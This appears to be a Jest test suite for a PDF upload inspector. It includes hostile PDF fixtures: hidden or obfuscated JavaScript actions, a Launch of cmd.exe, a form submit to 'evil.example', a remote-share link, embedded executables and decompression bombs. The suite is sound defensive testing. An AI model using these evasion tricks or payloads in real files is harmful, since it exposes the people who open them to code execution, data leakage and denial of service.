import { deflateSync } from 'node:zlib';
import { describe, expect, test } from '@jest/globals';
import { inspect } from '../../src/server/features/applications/files/kinds.ts';
import { pdf } from '../support/files.ts';
import { isLong } from '../support/form.ts';

const dangersIn = async (bytes: Buffer) => [...((await inspect(bytes))?.dangers ?? ['refused'])].sort();
const find = (files: [string, Buffer][], ...expected: string[]) =>
  test.each(files)('%s', async (_what, bytes) => {
    expect(await dangersIn(bytes)).toEqual(expected);
  });

/** A PDF with further objects. */
const withObjects = (...objects: (string | Buffer)[]) =>
  Buffer.concat([
    pdf(),
    ...objects.map((object, index) =>
      Buffer.concat([
        Buffer.from(`${10 + index} 0 obj\n`),
        typeof object === 'string' ? Buffer.from(object, 'latin1') : object,
        Buffer.from('\nendobj\n'),
      ]),
    ),
  ]);
const stream = (dictionary: string, content: Buffer | string) =>
  Buffer.concat([
    Buffer.from(`<<${dictionary}/Length ${content.length}>>\nstream\n`),
    Buffer.from(content as string, 'latin1'),
    Buffer.from('\nendstream'),
  ]);
const flate = '/Filter/FlateDecode';
const hidden = `/Type/ObjStm/N 2${flate}`;
const packed = (text: string) => deflateSync(Buffer.from(text, 'latin1'));
const objectStream = (text: string, dictionary = '/Type/ObjStm/N 1/First 4/Filter/FlateDecode') =>
  stream(dictionary, packed(text));
const script = '12 0 <</S/JavaScript/JS(a)>>';
/** With another word than `stream` and the end of a line before the bytes. */
const unusualStart = (gap: string) =>
  Buffer.concat([
    Buffer.from(`<</N 1/First 5${flate}>>%\nstream${gap}`),
    packed(script),
    Buffer.from('\nendstream'),
  ]);
const skills = 'BT (HTML/CSS/JavaScript, React/JS (2 years), Product/Launch, /EmbeddedFile, /XFA) Tj ET';

describe('an innocent PDF', () => {
  find([
    ['as it comes', pdf()],
    ['with skills in its text', withObjects(stream('', skills))],
    ['with skills in a packed text', withObjects(stream('/Filter/FlateDecode', packed(skills)))],
    [
      'with a drawing and skills',
      withObjects(
        stream('/Filter/FlateDecode', packed(`1 0 0 1 72 720 cm BT (HTML /Launch CV) Tj ${skills}`)),
      ),
    ],
    ['with slashes between skills', withObjects('<</Title(HTML/CSS/JS (3 years))>>')],
    ['with skills as keywords', withObjects(`<</Title(CV)/Keywords(${skills.replaceAll(/[()]/g, '')})>>`)],
    ['with a page to begin on', withObjects('<</Type/Catalog/OpenAction[3 0 R/Fit]>>')],
    ['with a link', withObjects('<</S/URI/URI(https://example.com/Launch)>>')],
    ['with a plain form', withObjects('<</AcroForm<</Fields[]>>>>')],
    [
      'with an outline and a picture',
      withObjects('<</Type/Outlines/First 12 0 R/Count 1>>', stream('/Filter/DCTDecode', 'x')),
    ],
    ['with an object stream', withObjects(objectStream('12 0 <</Type/Font/BaseFont/Times>>'))],
    ['with an object stream that tells of skills', withObjects(objectStream(`12 0 <</Title(${skills})>>`))],
    [
      'with an object stream that is not packed',
      withObjects(stream('/Type/ObjStm/N 1/First 5', '12 0 <</A 1>>')),
    ],
  ]);
});

describe('a PDF with a script', () => {
  find(
    [
      ['as an action', withObjects('<</S/JavaScript/JS(app.alert)>>')],
      ['to begin with', withObjects('<</OpenAction<</S /JavaScript /JS 12 0 R>>>>')],
      ['under an escaped name', withObjects('<</S/#4aava#53cript/#4AS(a)>>')],
      ['behind a comment', withObjects('<</S%x\n/JavaScript>>')],
      ['behind a long comment', withObjects(`<</S%${'x'.repeat(5_000)}\n/JavaScript>>`)],
      ['by reference', withObjects('<</S 12 0 R>>', '/JavaScript')],
      ['by name', withObjects('<</Names<</JavaScript 12 0 R>>>>')],
      ['in an object stream', withObjects(objectStream('12 0 <</S/JavaScript/JS(a)>>'))],
      [
        'in an object stream with an escaped type',
        withObjects(objectStream('12 0 <</S/JavaScript>>', '/Type/Obj#53tm/N 1/First 4/Filter/FlateDecode')),
      ],
      [
        'in an object stream that does not say so',
        withObjects(objectStream('12 0 <</S/JavaScript>>', '/N 1/First 4/Filter/FlateDecode')),
      ],
      [
        'in an object stream with a word in a text before',
        withObjects(
          objectStream('12 0 <</S/JavaScript>>', '/Type/ObjStm/First 4/X(1 0 obj)/Filter/FlateDecode'),
        ),
      ],
      ['in an object stream, as a separate name', withObjects(objectStream('12 0 13 12 /JavaScript <<>>'))],
      [
        'in an object stream, where another object follows at once',
        withObjects(objectStream('12 0 13 13 /JavaScript/A<</S 12 0 R/JS(a)>>', `${hidden}/First 12`)),
      ],
      ['behind a name', withObjects('<</S 12 0 R/X/Y/JS(a)>>')],
      ['behind a word', withObjects('<</S 12 0 R/X true/JS(a)>>')],
      [
        'in an object stream with its facts elsewhere',
        withObjects(objectStream(script, `/N 13 0 R/First 14 0 R${flate}`)),
      ],
      [
        'in an object stream behind the same word in a text',
        withObjects(objectStream(script, `/Type/ObjStm/First 5/X(stream\n)${flate}`)),
      ],
      [
        'in an object stream behind a whole one in a text',
        withObjects(objectStream(script, `/Type/ObjStm/First 5/X(stream\n1 0 <<>>\nendstream\n)${flate}`)),
      ],
      ...['', 'x', '\0\n', '\f\n', 'x\n'].map((gap): [string, Buffer] => [
        `in an object stream behind ${JSON.stringify(gap)}`,
        withObjects(unusualStart(gap)),
      ]),
      [
        'in the last of many object streams',
        withObjects(
          ...Array.from({ length: 50 }, (_, index) =>
            objectStream(`12 0 <<${index === 49 ? '/S/JavaScript' : ''}>>`),
          ),
        ),
      ],
    ],
    'script',
  );
});

describe('a PDF that', () => {
  find(
    [
      ['starts a program', withObjects('<</S/Launch/F(cmd.exe)>>')],
      ['opens a file of another machine', withObjects('<</OpenAction<</S/GoToR/F(\\\\evil\\a)/D[0/Fit]>>>>')],
      [
        'starts a program by reference',
        withObjects(objectStream('12 0 13 8 /Launch [] <</S 12 0 R>>', `${hidden}/First 10`)),
      ],
      [
        'opens a file by reference',
        withObjects(objectStream('12 0 13 8 /GoToE <</S 12 0 R>>', `${hidden}/First 10`)),
      ],
    ],
    'launch',
  );
  find([['sends its form', withObjects('<</S/SubmitForm/F(https://evil.example)>>')]], 'outside');
  find(
    [
      ['holds a file', withObjects('<</Names<</EmbeddedFiles<</Names[]>>>>>>')],
      ['holds a file without saying so', withObjects('<</Type/Filespec/EF<</F 12 0 R>>>>')],
      ['holds the bytes of a file', withObjects(stream('/Type/EmbeddedFile', 'MZ'))],
      ['holds rich media', withObjects('<</Subtype/RichMedia/RichMediaContent 12 0 R>>')],
    ],
    'embedded',
  );
  find([['holds an XFA form', withObjects('<</AcroForm<</XFA[(a)12 0 R]>>>>')]], 'forms');
  find(
    [
      [
        'has an object stream that is encrypted',
        withObjects(stream('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', 'xxxxxxxx')),
      ],
      [
        'packs one in an unusual way',
        withObjects(stream('/Type/ObjStm/N 1/First 4/Filter[/ASCIIHexDecode/FlateDecode]', 'aa')),
      ],
      ['packs one too well', withObjects(objectStream(' '.repeat(9 * 1024 * 1024)))],
      [
        'packs several too well',
        withObjects(...Array.from({ length: 3 }, () => objectStream(' '.repeat(3 * 1024 * 1024)))),
      ],
      [
        'has one that never ends',
        withObjects(Buffer.from(`<</Type/ObjStm/Filter/FlateDecode>>\nstream\n${'x'.repeat(100)}`)),
      ],
      [
        'has streams that share one end, to be unpacked over and over',
        withObjects('/ObjStm/Filter/Fl>>stream\n'.repeat(100).concat('\nendstream')),
      ],
      [
        'has a predictor behind a comment',
        withObjects(objectStream('12 0 <<>>', '/Type/ObjStm/Filter/FlateDecode/Predictor%x\n12')),
      ],
      [
        'has a predictor somewhere else',
        withObjects(objectStream('12 0 <<>>', '/Type/ObjStm/Filter/FlateDecode/DecodeParms 9 0 R')),
      ],
      ['has white space that is to be read over and over', withObjects('/S%\n%'.repeat(1_000))],
      ['has a filter behind the same', withObjects(stream(`/ObjStm${'/Filter\n%'.repeat(1_000)}`, ''))],
      [
        'has more of them than any',
        withObjects(...Array.from({ length: 2_001 }, () => objectStream('12 0 <<>>'))),
      ],
    ],
    'unreadable',
  );
});

describe('a file made to cost much', () => {
  const MB = 1024 * 1024;
  const text = (piece: string, size: number) => piece.repeat(Math.ceil(size / piece.length)).slice(0, size);
  test.each([
    ['a PDF of slashes', Buffer.concat([pdf(), Buffer.from(text('/S ', 4 * MB))])],
    ['a PDF of comments', Buffer.concat([pdf(), Buffer.from(text('/S%', 4 * MB))])],
    ['a PDF of lines of comments', Buffer.concat([pdf(), Buffer.from(text('/S%\n%\n%\n', 4 * MB))])],
    ['a PDF of streams', Buffer.concat([pdf(), Buffer.from(text('/ObjStm/Filter/Fl>>stream\n', 4 * MB))])],
    ['a PDF of filters', withObjects(stream(`/ObjStm${text('/Filter ', 4 * MB)}`, ''))],
    ['a PDF with a filter and white space', withObjects(stream(`/ObjStm/Filter${text(' ', 4 * MB)}`, ''))],
    ['a PDF with a filter in brackets', withObjects(stream(`/ObjStm/Filter${text('[', 4 * MB)}`, ''))],
    ['a PDF of dictionaries', withObjects(text('<<', 4 * MB))],
    ['a PDF of objects without an end', withObjects(text('1 0 obj ', 4 * MB))],
    ['a PDF of texts without an end', withObjects(text('(', 4 * MB))],
    ['a PDF of escapes', withObjects(text('#41', 4 * MB))],
    ['a PDF of streams without an end', withObjects(text('stream\n', 4 * MB))],
    ['a PDF of packed names', withObjects(objectStream(text('/S ', 7 * MB)))],
    ['a PDF of white space', Buffer.concat([pdf(), Buffer.from(`/S${text(' ', 4 * MB)}`)])],
  ])('is judged in a few seconds: %s', async (_what, bytes) => {
    const start = process.cpuUsage();
    expect(await inspect(bytes)).not.toBeNull();
    const { user, system } = process.cpuUsage(start);
    // A thread has twenty seconds for ten files of this size; the largest take a fraction of one on a free machine.
    if (isLong) expect((user + system) / 1e6).toBeLessThan(4);
  });
});
